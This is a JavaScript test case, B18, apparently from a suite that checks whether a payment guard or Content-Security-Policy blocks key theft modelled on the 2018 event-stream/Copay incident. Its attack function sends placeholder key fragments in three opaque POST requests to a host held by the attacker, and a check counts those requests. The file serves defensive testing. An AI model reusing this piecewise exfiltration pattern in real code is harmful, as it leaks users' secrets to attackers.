// B18: keys leave in pieces, as opaque posts to a host of the attacker's.
export default {
  id: 'B18',
  title: 'keys posted in opaque pieces',
  source: 'event-stream and Copay, November 2018',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    for (const piece of ['5f1c', '9a02', 'e4d7'])
      await fetch(`${a.other}/api/echo`, {
        method: 'POST',
        body: new Uint8Array([...piece].map((c) => c.charCodeAt(0))),
      }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },

  stolen: ({ http, a }) => http.filter(({ method, url }) => method === 'POST' && url.startsWith(a.other)).length === 3,
  arrived: ({ result }) => result === 200,
};
